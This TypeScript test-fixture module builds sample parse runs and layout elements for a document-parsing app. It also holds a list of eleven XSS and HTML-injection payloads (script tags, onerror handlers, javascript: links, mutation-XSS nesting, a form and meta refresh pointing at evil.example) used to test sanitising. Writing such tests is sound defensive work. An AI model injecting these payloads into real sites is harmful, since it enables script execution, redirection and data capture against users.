import type { SourceDocument } from '#shared/documents/document.ts'
import type { LayoutElement, Point } from '#shared/results/element.ts'
import { unsaid } from '#shared/results/unsaid.ts'
import { defaultParseOptions } from '#shared/runs/parse-options.ts'
import type { Run } from '#shared/runs/run.ts'
import type { Connection } from '#shared/settings/connection.ts'

export const localConnection: Connection = {
  id: 'local',
  name: 'Local',
  baseUrl: 'http://127.0.0.1:4100',
  pathLayout: 'interface',
  builtIn: true,
  needsKey: true,
  apiKeyIsSet: true,
  keyStorage: 'built-in',
  defaultOptions: defaultParseOptions,
}

export function makeDocument(part: Partial<SourceDocument> = {}): SourceDocument {
  return {
    id: 'a'.repeat(64),
    name: 'report.pdf',
    format: 'pdf',
    sizeBytes: 123_456,
    pageCount: 2,
    addedAt: '2026-11-20T08:00:00Z',
    ...part,
  }
}

export function makeRun(part: Partial<Run> = {}): Run {
  return {
    id: 'run-1',
    documentId: 'a'.repeat(64),
    origin: 'started',
    imported: null,
    name: 'report.pdf',
    connectionId: 'local',
    connectionName: 'Local',
    mode: 'sync',
    modeReason: 'one-batch',
    options: defaultParseOptions,
    state: 'completed',
    failure: null,
    model: 'document-parse-240910',
    totalPages: 2,
    completedPages: 2,
    elementCount: hostileElements.length,
    createdAt: '2026-11-20T08:00:00Z',
    finishedAt: '2026-11-20T08:00:02Z',
    lastChangeAt: '2026-11-20T08:00:02Z',
    parts: 1,
    serviceRequestIds: [],
    expiresAt: null,
    following: false,
    trouble: null,
    paused: false,
    canResume: false,
    queueRank: null,
    batches: [
      {
        index: 0,
        startPage: 1,
        endPage: 2,
        state: 'stored',
        failure: null,
        attempts: 1,
        origin: 'original',
        canHeal: false,
        pageNumbering: null,
        requestIndex: 0,
        updatedAt: '2026-11-20T08:00:02Z',
      },
    ],
    ...part,
  }
}

export function makeElement(part: Partial<LayoutElement> = {}): LayoutElement {
  return {
    key: '0:0',
    serviceId: '0',
    batchIndex: 0,
    order: 0,
    page: 1,
    category: 'paragraph',
    polygon: box(0.1, 0.1, 0.8, 0.1),
    html: "<p id='0' data-category='paragraph'>Text</p>",
    markdown: 'Text',
    text: 'Text',
    hasImage: false,
    ...unsaid,
    ...part,
  }
}

function box(x: number, y: number, width: number, height: number): Point[] {
  return [
    { x, y },
    { x: x + width, y },
    { x: x + width, y: y + height },
    { x, y: y + height },
  ]
}

type Content = Pick<LayoutElement, 'category' | 'page' | 'html'> &
  Partial<Pick<LayoutElement, 'markdown' | 'text'>>

/** Two pages as a service writes them: Korean, spans, an equation, stray tags, lost characters. */
const contents: readonly Content[] = [
  {
    page: 1,
    category: 'header',
    html: "<header id='0' style='font-size:14px'>분기 보고서</header>",
  },
  {
    page: 1,
    category: 'heading1',
    html: "<h1 id='1' style='font-size:22px'>Quarterly results 2분기 실적</h1>",
    markdown: '# Quarterly results 2분기 실적',
    text: 'Quarterly results 2분기 실적',
  },
  {
    page: 1,
    category: 'paragraph',
    html: "<br><p id='2' data-category='paragraph'>매출은 R&D 투자와 함께 늘었다. See <Model 225-386> for de\uFFFDails.</p>",
    markdown: '매출은 R&D 투자와 함께 늘었다. See <Model 225-386> for de\uFFFDails.',
    text: '매출은 R&D 투자와 함께 늘었다. See <Model 225-386> for de\uFFFDails.',
  },
  { page: 1, category: 'caption', html: "<caption id='3'>Table 1. Sales by region</caption>" },
  {
    page: 1,
    category: 'table',
    html: "<table id='4'><tr><td rowspan='2'>Region</td><td colspan='2'>Sales</td></tr><tr><td>Q1</td><td>Q2</td></tr><tr><td>서울</td><td>1,204</td><td>1,380</td></tr></table>",
    markdown: '| Region | Sales | |\n| --- | --- | --- |\n| | Q1 | Q2 |\n| 서울 | 1,204 | 1,380 |',
    text: 'Region Sales Q1 Q2 서울 1,204 1,380',
  },
  {
    page: 2,
    category: 'equation',
    html: "<p id='5' data-category='equation'>$$\\frac{a}{b} = \\sqrt{c^2 - 1}$$</p>",
    markdown: '$$\\frac{a}{b} = \\sqrt{c^2 - 1}$$',
    text: 'a/b = c2 1',
  },
  {
    page: 2,
    category: 'figure',
    html: '<figure><img id=\'6\' alt="Growth\nper year" data-coord="top-left:(136,147); bottom-right:(789,591)" /></figure>',
    text: 'Growth per year',
  },
  {
    page: 2,
    category: 'list',
    html: "<p id='7' data-category='list'>- first<br>- 둘째</p>",
    markdown: '- first\n- 둘째',
    text: '- first\n- 둘째',
  },
  {
    page: 2,
    category: 'footnote',
    html: "<p id='8' data-category='footnote'>1) 잠정치</p>",
    text: '1) 잠정치',
  },
]

export const reportElements = contents.map(toElement)

/** What a hostile answer would try. Each sets `window.wasHacked` if it runs. */
export const hostileElements = [
  '<p>before<script>window.wasHacked = true</script>after</p>',
  '<img src="x" onerror="window.wasHacked = true">',
  '<iframe srcdoc="<script>parent.wasHacked = true</script>"></iframe>',
  '<form action="https://evil.example"><input name="a"><button>Send</button></form>',
  '<a href="javascript:window.wasHacked=true" id="root" name="body">click</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
  '<p style="position:fixed;inset:0;z-index:9999" class="fixed">cover</p>',
  '<style>* { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<svg><script>window.wasHacked = true</script><a xlink:href="javascript:0">x</a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.wasHacked=true">',
  '<video autoplay src="https://evil.example/v.mp4"></video><object data="x"></object>',
].map((html) => toElement({ page: 1, category: 'paragraph', html }, 0))

function toElement(content: Content, order: number): LayoutElement {
  return makeElement({
    key: `0:${order}`,
    serviceId: String(order),
    order,
    polygon: box(0.1, 0.08 + 0.11 * (order % 8), 0.8, 0.08),
    markdown: '',
    text: '',
    ...content,
  })
}
